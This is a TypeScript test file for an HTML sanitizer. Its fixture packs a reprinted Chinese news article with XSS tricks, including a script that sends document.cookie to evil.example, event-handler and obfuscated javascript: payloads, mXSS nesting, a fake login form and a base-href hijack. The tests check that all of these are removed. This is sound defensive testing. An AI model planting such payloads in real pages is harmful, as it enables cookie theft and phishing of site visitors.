import { describe, expect, it } from "vitest";
import { decodeEntities, htmlToText, safeUrl, sanitizeHtml } from "./sanitize-html";

/** A reprint pasted from another site, as an editor might store it: every trick at once. */
const HOSTILE_ARTICLE = `
<h1 onclick="steal()">国家集采第十一批结果公布</h1>
<script>document.cookie="x=1";fetch("https://evil.example/"+document.cookie)</script>
<p style="background:url(javascript:alert(1))" class="lead" id="top">正文第一段<img src=x onerror=alert(1)></p>
<p><a href="javascript:alert(2)">点此领取</a> <a href="JaVaScRiPt&#58;alert(3)">再点</a>
<a href=" &#x6A;ava&#x0A;script:alert(4)">三点</a> <a href="data:text/html;base64,PHNjcmlwdD4=">数据</a>
<a href="vbscript:msgbox(5)">vb</a> <a href="//evil.example/phish">外站</a> <a href="/help/us/link" onmouseover="x()">联系我们</a></p>
<iframe src="https://evil.example/"></iframe><object data="x.swf"><param name=a value=b>里面的字</object>
<svg onload=alert(6)><circle r=1 /></svg><math><mtext><table><mglyph><style><img src=x onerror=alert(7)></style></mglyph></table></mtext></math>
<style>body{display:none}</style><link rel=stylesheet href="https://evil.example/x.css"><meta http-equiv="refresh" content="0;url=https://evil.example/">
<base href="https://evil.example/"><form action="https://evil.example/login"><input name=pwd><button>登录</button></form>
<!-- <script>alert(8)</script> --><scr<script>ipt>alert(9)</script>
<div><img src="/images/news/1.png" alt="图" width="600" height="abc" onerror="x"></div>
<p>未闭合的段落<b>加粗<i>斜体</p>
<textarea><img src=x onerror=alert(10)></textarea><noscript><img src=x onerror=alert(11)></noscript>
<img src="data:image/svg+xml,<svg onload=alert(12)>"><a href="https://example.com/a?b=1&amp;c=2" target="_blank">外链</a>
`;

describe("sanitizeHtml on a hostile article", () => {
  const clean = sanitizeHtml(HOSTILE_ARTICLE);

  it("keeps no script, handler, style, frame, form or dangerous URL", () => {
    expect(clean).not.toMatch(
      /<script|<\/script|<iframe|<object|<embed|<svg|<math|<style|<link|<meta|<base|<form|<input|<button|<textarea|<noscript/i,
    );
    expect(clean).not.toMatch(/\son[a-z]+\s*=/i);
    expect(clean).not.toMatch(/javascript:|vbscript:|data:/i);
    expect(clean).not.toMatch(/style=|class=|id=|target=/i);
    expect(clean).not.toContain("evil.example");
    // Words of a broken tag stay as inert text (`ipt>alert(9)`), as in a browser; never inside a tag.
    expect(clean).not.toMatch(/<[^>]*alert/);
    expect(clean.match(/alert\(\d+\)/g)).toEqual(["alert(9)"]);
    expect(clean).not.toContain("document.cookie");
  });

  it("keeps the article's text and its safe structure", () => {
    expect(clean).toContain("<h2>国家集采第十一批结果公布</h2>");
    expect(clean).toContain("<p>正文第一段</p>");
    expect(clean).toContain('<a href="/help/us/link">联系我们</a>');
    expect(clean).toContain('<img src="/images/news/1.png" alt="图" width="600">');
    expect(clean).toContain('<a href="https://example.com/a?b=1&amp;c=2" rel="nofollow noopener noreferrer">外链</a>');
    // Links without a safe href lose the tag, not the words.
    expect(clean).toContain("点此领取");
    expect(clean).toContain("外站");
    expect(clean).not.toContain("里面的字");
    expect(clean).not.toContain("登录");
  });

  it("closes what the author left open", () => {
    expect(clean).toContain("<p>未闭合的段落<b>加粗<i>斜体</i></b></p>");
    const opened = (clean.match(/<(p|b|i|div|h2|a)\b/g) ?? []).length;
    const closed = (clean.match(/<\/(p|b|i|div|h2|a)>/g) ?? []).length;
    expect(opened).toBe(closed);
  });

  it("is stable: cleaning clean HTML changes nothing", () => {
    expect(sanitizeHtml(clean)).toBe(clean);
  });
});

describe("sanitizeHtml on ordinary articles", () => {
  it("keeps headings, lists, tables and paragraphs", () => {
    const html =
      '<h2>配送时效</h2><p>工作日<strong>16:00</strong>前支付当天出库。</p><ol start="2"><li>一</li><li>二</li></ol>' +
      '<table><caption>运费</caption><thead><tr><th scope="col">地区</th></tr></thead><tbody><tr><td colspan="2">广东</td></tr></tbody></table>';
    expect(sanitizeHtml(html)).toBe(html);
  });

  it("escapes text and re-encodes entities", () => {
    expect(sanitizeHtml("1 < 2 &amp; 3 > 2 &lt;b&gt;")).toBe("1 &lt; 2 &amp; 3 &gt; 2 &lt;b&gt;");
    expect(sanitizeHtml("满&nbsp;800&yen;包邮")).toBe("满\u00a0800¥包邮");
    expect(sanitizeHtml("&unknown; &#0; &#x110000;")).toBe("&amp;unknown; \ufffd \ufffd");
  });

  it("unwraps unknown elements and drops stray end tags", () => {
    expect(sanitizeHtml("<font color=red>红字</font></p></div>")).toBe("红字");
    expect(sanitizeHtml("<center><p>居中</p></center>")).toBe("<p>居中</p>");
  });

  it("turns h1 into h2 and can demote headings further", () => {
    expect(sanitizeHtml("<h1>标题</h1>")).toBe("<h2>标题</h2>");
    expect(sanitizeHtml("<h2>一</h2><h6>六</h6>", { demoteHeadings: 1 })).toBe("<h3>一</h3><h6>六</h6>");
  });

  it("quotes attribute values safely", () => {
    expect(sanitizeHtml(`<a href="/a" title='say "hi" <now>'>x</a>`)).toBe('<a href="/a" title="say &quot;hi&quot; &lt;now&gt;">x</a>');
  });

  it("handles a lone < and an unterminated tag or comment", () => {
    expect(sanitizeHtml("a < b")).toBe("a &lt; b");
    expect(sanitizeHtml("<p>x<!-- never closed")).toBe("<p>x</p>");
    expect(sanitizeHtml('<p title="never closed>x')).toBe("");
    expect(sanitizeHtml("<script>never closed <p>x</p>")).toBe("");
  });

  it("never lets a fuzzed mix of fragments through", () => {
    const parts = [
      "<script>",
      "</script>",
      "<img src=x onerror=alert(1)>",
      '<a href="javascript:x">',
      "</a>",
      "<p>",
      "</p>",
      "<svg>",
      "</svg>",
      "<style>",
      "</style>",
      "<!--",
      "-->",
      '"',
      "'",
      "<",
      ">",
      "<b",
      " onclick=x",
      "/>",
      "&#106;",
      "<iframe>",
      "<textarea>",
      "</textarea>",
      "<math>",
      "</math>",
      "文字",
    ];
    let seed = 42;
    const random = () => (seed = (seed * 1103515245 + 12345) % 2 ** 31) / 2 ** 31;
    for (let round = 0; round < 500; round++) {
      const input = Array.from({ length: 12 }, () => parts[Math.floor(random() * parts.length)]).join("");
      const clean = sanitizeHtml(input);
      expect(clean).not.toMatch(/<(script|svg|iframe|style|textarea|math)/i);
      expect(clean).not.toMatch(/<[^>]*\son[a-z]+=/i);
      expect(clean).not.toMatch(/href="javascript/i);
      expect(sanitizeHtml(clean)).toBe(clean);
    }
  });
});

describe("safeUrl", () => {
  it("allows site paths, fragments and the listed schemes only", () => {
    const schemes = ["http:", "https:", "mailto:", "tel:"];
    expect(safeUrl("/news/info/1/hy", schemes)).toBe("/news/info/1/hy");
    expect(safeUrl("#top", schemes)).toBe("#top");
    expect(safeUrl("tel:400-800-1234", schemes)).toBe("tel:400-800-1234");
    expect(safeUrl("HTTPS://example.com", schemes)).toBe("HTTPS://example.com");
    for (const bad of [
      "//evil.example",
      "/\\evil.example",
      "javascript:x",
      " java\tscript:x",
      "\u0001javascript:x",
      "data:x",
      "relative/path",
      "",
    ]) {
      expect(safeUrl(bad, schemes)).toBeNull();
    }
  });
});

describe("htmlToText and decodeEntities", () => {
  it("gives plain text for summaries", () => {
    expect(htmlToText("<h2>标题</h2><p>第一段&amp;更多</p><script>x()</script><p>第二段</p>")).toBe("标题 第一段&更多 第二段");
  });

  it("decodes named and numeric entities", () => {
    expect(decodeEntities("&#26032;&#x54C1;&quot;&mdash;")).toBe('新品"—');
  });
});
